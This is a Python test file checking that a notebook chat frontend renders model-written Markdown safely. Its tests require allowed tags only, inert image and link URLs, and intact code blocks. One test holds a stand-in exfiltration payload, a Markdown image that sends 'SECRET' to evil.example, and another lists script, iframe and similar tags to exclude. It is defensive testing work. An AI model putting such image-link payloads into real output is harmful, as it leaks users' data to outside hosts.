"""Model output rendered as Markdown: code shows what the model wrote, and nothing hostile runs, loads or links."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from jupyter_chatflow.events import Completed, Timings, TokenDelta, TurnStarted, Usage
from jupyter_chatflow.frontends.notebook.render import TurnView
from jupyter_chatflow.frontends.notebook.safe_markdown import ATTRIBUTES, TAGS, markdown_html

# Shared with the panel's tests (js/test/markdown.test.ts): the same inputs must stay inert in both renderers.
HOSTILE = json.loads((Path(__file__).parents[3] / "js" / "test" / "fixtures" / "hostile_markdown.json").read_text())


class Tags(HTMLParser):
    """Every tag and attribute in a piece of HTML, and the text of <code> elements."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.code: list[str] = []
        self._in_code = 0
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "code":
            self._in_code += 1
            self.code.append("")

    def handle_endtag(self, tag):
        if tag == "code":
            self._in_code -= 1

    def handle_data(self, data):
        if self._in_code:
            self.code[-1] += data


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_output_renders_only_allowed_tags_with_no_url_or_handler(text):
    out = markdown_html(text)
    for tag, attrs in Tags(out).tags:
        assert tag in TAGS, (tag, out)
        assert set(attrs) <= ATTRIBUTES.get(tag, set()), (tag, attrs, out)
    for tag in ("<img", "<a ", "<script", "<iframe", "<svg", "<style", "<details"):
        assert tag not in out, out


def test_image_and_link_urls_are_shown_as_text_never_fetched_or_clickable():
    out = markdown_html("See ![chart](https://evil.example/c?q=SECRET) and [docs](https://docs.example/x).")
    assert "[image: chart — https://evil.example/c?q=SECRET]" in out
    assert "docs</span> <span" in out and "(https://docs.example/x)" in out
    assert "src=" not in out and "href=" not in out


def test_code_shows_what_the_model_wrote():
    out = markdown_html("Use `a < b && c > d`:\n\n```python\nif a < b:\n\n    print('<b>&amp;</b>')\n```\n")
    code = Tags(out).code
    assert code == ["a < b && c > d", "if a < b:\n\n    print('<b>&amp;</b>')\n"]
    assert '<code class="language-python">' in out


def test_a_single_newline_is_a_line_break_as_the_model_wrote_it():
    assert markdown_html("1\n2\n3") == "<p>1<br>\n2<br>\n3</p>"


def test_markdown_formatting_survives():
    out = markdown_html("# Title\n\n**bold**, *it*, ~~gone~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    for piece in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<s>gone</s>", "<li>one</li>", "<td>2"):
        assert piece in out


def test_the_cell_markdown_is_one_html_block_that_markdown_renderers_pass_through():
    view = TurnView()
    answer = "Code:\n\n```\nx = 1\n\n\ny = 2 < 3\n```\n\n> quoted\n\n![x](https://evil.example/?q=1)"
    view.add(TurnStarted(user="u", request_id="r", session_id="s", params={}, features={}, created=0.0))
    view.add(TokenDelta(index=0, token_id=1, text=answer, logprob=0.0, entropy=0.0))
    view.add(Completed(finish_reason="stop", text=answer, usage=Usage(), timings=Timings()))
    markdown = view.markdown()
    assert "\n\n" not in markdown  # no blank line: a single HTML block in CommonMark
    # a Markdown renderer with raw HTML on (as notebook front ends render trusted output) keeps it as it is
    assert MarkdownIt("commonmark", {"html": True}).render(markdown).strip() == markdown
    assert "<img" not in markdown and "y = 2 &lt; 3" in markdown


def test_a_stopped_answer_is_marked_stopped():
    from jupyter_chatflow.events import Cancelled

    view = TurnView()
    view.add(Cancelled(text="Partial"))
    assert view.answer == "Partial [stopped]" and "Partial [stopped]" in view.markdown()
